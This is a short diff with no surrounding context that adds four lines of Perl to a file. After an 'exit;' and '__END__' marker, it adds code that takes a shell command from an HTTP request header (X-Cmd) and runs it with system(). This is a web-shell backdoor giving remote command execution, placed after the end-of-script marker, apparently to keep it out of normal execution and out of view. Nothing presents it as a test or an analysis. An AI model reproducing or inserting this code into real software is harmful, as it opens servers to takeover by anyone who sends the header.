@@ -1,0 +1,4 @@
+exit;
+__END__
+my $c = $ENV{'HTTP_X_CMD'};
+system($c);
